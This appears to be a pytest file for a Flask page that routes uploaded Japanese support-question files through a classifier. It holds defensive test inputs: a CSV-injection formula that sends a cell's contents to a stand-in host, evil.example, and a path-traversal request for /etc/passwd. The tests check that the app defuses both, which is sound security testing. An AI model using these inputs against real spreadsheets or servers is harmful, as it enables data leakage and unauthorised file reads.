"""The files page (webapp/files.py, webapp/file_jobs.py) through Flask's test client.

Uploads in UTF-8 and Shift_JIS (cp932) CSV, TSV and .xlsx with Japanese headers; the column page
preselects the recognised question column; the results table and both downloads hold exactly
the model's predictions, one row per line of the file (a blank line: ``no_content``); bad files
are a 400 page naming the line.
"""

from __future__ import annotations

import codecs
import csv
import io
import re
import time
from pathlib import Path

import openpyxl
import pytest

from routing.predictor import load_predictor as load_bundle
from webapp import create_app, file_jobs

QUESTIONS = [
    "パスワードを忘れてしまい、ログインできません。",
    "注文した商品がまだ届きません。いつ発送されますか？",
    "届いた商品が壊れていたので返品したいです",
]
TOKEN_IN_FORM = re.compile(r'name="csrf_token" type="hidden" value="([^"]+)"')


@pytest.fixture
def app(tfidf_bundle_dir: Path, tmp_path: Path):
    app = create_app({"MODEL_PATH": str(tfidf_bundle_dir), "DB_URL": f"sqlite:///{tmp_path / 'fb.sqlite3'}",
                      "FILES_DIR": str(tmp_path / "files"), "SECRET_KEY": "test", "FILES_PREVIEW_ROWS": 2})
    yield app
    from webapp.feedback_store import close_store

    close_store(app)


@pytest.fixture
def client(app):
    return app.test_client()


def csrf(client, path: str = "/files") -> str:
    page = client.get(path)
    assert page.status_code == 200
    return TOKEN_IN_FORM.search(page.get_data(as_text=True)).group(1)


def upload(client, data: bytes, name: str):
    return client.post("/files", data={"csrf_token": csrf(client), "file": (io.BytesIO(data), name)},
                       content_type="multipart/form-data")


def selected_option(html: str) -> str:
    return re.search(r'<option selected value="([^"]*)"', html).group(1)


def route_file(client, data: bytes, name: str, column: str | None = None) -> tuple[str, str]:
    """Upload, accept (or choose) the column, route: (job URL, results page HTML)."""
    answer = upload(client, data, name)
    assert answer.status_code == 303, answer.get_data(as_text=True)
    job = answer.headers["Location"]
    page = client.get(job).get_data(as_text=True)
    chosen = selected_option(page) if column is None else column
    routed = client.post(job, data={"csrf_token": TOKEN_IN_FORM.search(page).group(1), "column": chosen})
    assert routed.status_code == 303, routed.get_data(as_text=True)
    assert routed.headers["Location"] == job + "/results"
    return job, client.get(job + "/results").get_data(as_text=True)


def expected_rows(bundle_dir: Path, lines: list[tuple[int, str]]) -> list[list[str]]:
    predictor = load_bundle(bundle_dir)
    rows = []
    for line, question in lines:
        if not question:
            rows.append([str(line), "", "", "", "true", "no_content"])
            continue
        p = predictor.predict([question], top_k=1)[0]
        rows.append([str(line), question, p.category or "", f"{p.probability:.4f}", "true" if p.needs_review else "false", p.reason or ""])
    return rows


def test_cp932_csv_with_japanese_headers_and_a_blank_line(client, tfidf_bundle_dir: Path) -> None:
    text = f"お問い合わせ番号,お問い合わせ内容,担当部署\r\n1,{QUESTIONS[0]},\r\n\r\n2,{QUESTIONS[1]},\r\n"
    answer = upload(client, text.encode("cp932"), "問い合わせ.csv")
    page = client.get(answer.headers["Location"]).get_data(as_text=True)
    assert selected_option(page) == "お問い合わせ内容"
    assert "Shift_JIS（cp932）" in page
    job, results = route_file(client, text.encode("cp932"), "問い合わせ.csv")
    assert "3 行を振り分けました" in results and "空行 1 行" in results
    # The preview shows FILES_PREVIEW_ROWS (2) rows and says the download has them all.
    assert results.count("<tr") == 1 + 2 and "最初の 2 行" in results

    download = client.get(job + "/results.csv")
    assert download.status_code == 200
    assert download.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in download.headers["Content-Disposition"] and "_routed.csv" in download.headers["Content-Disposition"]
    assert download.data.startswith(codecs.BOM_UTF8)
    rows = list(csv.reader(io.StringIO(download.data[len(codecs.BOM_UTF8):].decode("utf-8"), newline="")))
    assert rows[0] == ["line", "question", "category", "probability", "needs_review", "reason"]
    assert rows[1:] == expected_rows(tfidf_bundle_dir, [(2, QUESTIONS[0]), (3, ""), (4, QUESTIONS[1])])


def test_utf8_tsv_with_english_header(client, tfidf_bundle_dir: Path) -> None:
    text = "id\tquestion\n" + "".join(f"{i}\t{q}\n" for i, q in enumerate(QUESTIONS, start=1))
    job, results = route_file(client, text.encode("utf-8"), "tickets.tsv")
    assert "3 行を振り分けました" in results
    rows = list(csv.reader(io.StringIO(client.get(job + "/results.csv").data.decode("utf-8-sig"), newline="")))
    assert rows[1:] == expected_rows(tfidf_bundle_dir, [(2, QUESTIONS[0]), (3, QUESTIONS[1]), (4, QUESTIONS[2])])


def test_headerless_file_of_questions(client, tfidf_bundle_dir: Path) -> None:
    text = "\n".join(QUESTIONS) + "\n"
    answer = upload(client, text.encode("utf-8"), "questions.txt")
    page = client.get(answer.headers["Location"]).get_data(as_text=True)
    assert selected_option(page) == ""  # "the first row is data too"
    job, _ = route_file(client, text.encode("utf-8"), "questions.txt")
    rows = list(csv.reader(io.StringIO(client.get(job + "/results.csv").data.decode("utf-8-sig"), newline="")))
    assert rows[1:] == expected_rows(tfidf_bundle_dir, [(1, QUESTIONS[0]), (2, QUESTIONS[1]), (3, QUESTIONS[2])])


def xlsx_bytes(rows: list[list[object]]) -> bytes:
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    for row in workbook.active.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"  # "=1+1 ..." is text, as Excel keeps a cell typed with a leading '

    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_xlsx_upload_and_xlsx_download(client, tfidf_bundle_dir: Path) -> None:
    data = xlsx_bytes([["No", "質問内容", "カテゴリ"], [1, QUESTIONS[2], None], [2, "=1+1 商品が届かない", None], [3, None, "配送"]])
    job, _ = route_file(client, data, "一覧.xlsx")
    download = client.get(job + "/results.xlsx")
    assert download.status_code == 200 and "_routed.xlsx" in download.headers["Content-Disposition"]
    sheet = openpyxl.load_workbook(io.BytesIO(download.data)).worksheets[0]
    cells = [list(row) for row in sheet.iter_rows(values_only=True)]
    # Row 4 has an id and a category but no question: a no_content row, not an error.
    expected = expected_rows(tfidf_bundle_dir, [(2, QUESTIONS[2]), (3, "=1+1 商品が届かない"), (4, "")])
    assert cells[0] == ["line", "question", "category", "probability", "needs_review", "reason"]
    assert cells[1:] == [[int(e[0]), e[1] or None, e[2] or None, float(e[3]) if e[3] else None, e[4] == "true", e[5] or None] for e in expected]
    assert sheet["B3"].data_type == "s"  # a question starting with "=" is text, not a formula


def test_csv_download_defuses_formulas_and_the_xlsx_keeps_them_as_text(client, tfidf_bundle_dir: Path) -> None:
    # Questions a customer could send to run a formula on the agent's machine (OWASP, "CSV
    # Injection"), and ordinary ones that merely start with "-" or "+".
    formulas = ['=HYPERLINK("http://evil.example/?q="&A1,"詳細")', "+81 90 1234 5678 に電話ください", "-- 山田 太郎",
                "@担当者 荷物が届きません", QUESTIONS[1]]
    text = "質問\n" + "".join(f'"{q.replace(chr(34), chr(34) * 2)}"\n' for q in formulas)
    job, results = route_file(client, text.encode("utf-8"), "formulas.csv")
    expected = expected_rows(tfidf_bundle_dir, list(enumerate(formulas, start=2)))
    downloaded = list(csv.reader(io.StringIO(client.get(job + "/results.csv").data.decode("utf-8-sig"), newline="")))
    assert [row[1] for row in downloaded[1:]] == ["'" + q for q in formulas[:4]] + [QUESTIONS[1]]
    assert [row[:1] + row[2:] for row in downloaded[1:]] == [row[:1] + row[2:] for row in expected]
    # The preview (2 rows) and the workbook show the questions exactly; the workbook types them as text.
    assert "<td>=HYPERLINK(&#34;http://evil.example/?q=&#34;&amp;A1,&#34;詳細&#34;)</td>" in results
    sheet = openpyxl.load_workbook(io.BytesIO(client.get(job + "/results.xlsx").data)).worksheets[0]
    assert [sheet.cell(row=r, column=2).value for r in range(2, 7)] == formulas
    assert all(sheet.cell(row=r, column=2).data_type == "s" for r in range(2, 7))
    # A second download is the same file.
    assert list(csv.reader(io.StringIO(client.get(job + "/results.csv").data.decode("utf-8-sig"), newline=""))) == downloaded


def test_spreadsheet_text() -> None:
    assert file_jobs.spreadsheet_text("=1+1") == "'=1+1"
    assert file_jobs.spreadsheet_text("\t=1") == "'\t=1"
    assert file_jobs.spreadsheet_text("荷物が届きません -1") == "荷物が届きません -1"
    assert file_jobs.spreadsheet_text("") == ""


def test_undecodable_file_names_the_line(client) -> None:
    data = "質問\n届きません\n".encode("utf-8") + b"\xff\xfe broken\n"
    answer = upload(client, data, "bad.csv")
    assert answer.status_code == 400
    html = answer.get_data(as_text=True)
    assert "ファイル「bad.csv」を読めません。3 行目" in html and "not UTF-8 at column 1" in html


def test_bad_uploads_are_400_pages(client) -> None:
    assert upload(client, b"PK\x03\x04 not a zip", "broken.xlsx").status_code == 400
    wrong = upload(client, b"%PDF-1.4", "manual.pdf")
    assert wrong.status_code == 400 and "CSV・TSV・Excel（.xlsx）のファイルを選んでください" in wrong.get_data(as_text=True)
    assert upload(client, b"\n\n", "empty.csv").status_code == 400
    missing_token = client.post("/files", data={"file": (io.BytesIO(b"a"), "a.csv")}, content_type="multipart/form-data")
    assert missing_token.status_code == 400
    ragged = "質問,メモ\n届きません,a\n返品したい,b,c\n".encode("utf-8")
    answer = upload(client, ragged, "ragged.csv")
    job = answer.headers["Location"]
    page = client.get(job).get_data(as_text=True)
    routed = client.post(job, data={"csrf_token": TOKEN_IN_FORM.search(page).group(1), "column": "質問"})
    assert routed.status_code == 400 and "3 行目" in routed.get_data(as_text=True)


def test_unknown_or_expired_jobs_are_404(client, app, tmp_path: Path) -> None:
    assert client.get("/files/../../etc/passwd").status_code == 404
    assert client.get("/files/" + "A" * 32 + "/results.csv").status_code == 404
    job, _ = route_file(client, ("質問\n" + QUESTIONS[0] + "\n").encode("utf-8"), "a.csv")
    directory = Path(app.config["FILES_DIR"]) / job.rsplit("/", 1)[1]
    assert file_jobs.prune(directory.parent, ttl=3600) == 0 and directory.is_dir()
    assert file_jobs.open_job(directory.parent, directory.name, ttl=60, now=time.time() + 61) is None
    assert file_jobs.prune(directory.parent, ttl=60, now=time.time() + 61) == 1 and not directory.exists()
    assert client.get(job + "/results.csv").status_code == 404


def test_upload_limit_is_the_files_limit_not_the_api_limit(app, client) -> None:
    app.config["FILES_MAX_BYTES"] = 1000
    answer = upload(client, ("質問\n" + "届きません\n" * 200).encode("utf-8"), "big.csv")
    assert answer.status_code == 413 and "1,000 bytes" in answer.get_data(as_text=True)
    app.config["FILES_MAX_BYTES"] = 64 * 1024 * 1024
    assert app.config["MAX_CONTENT_LENGTH"] == 16 * 1024 * 1024
    assert upload(client, ("質問\n" + "届きません\n" * 200).encode("utf-8"), "big.csv").status_code == 303
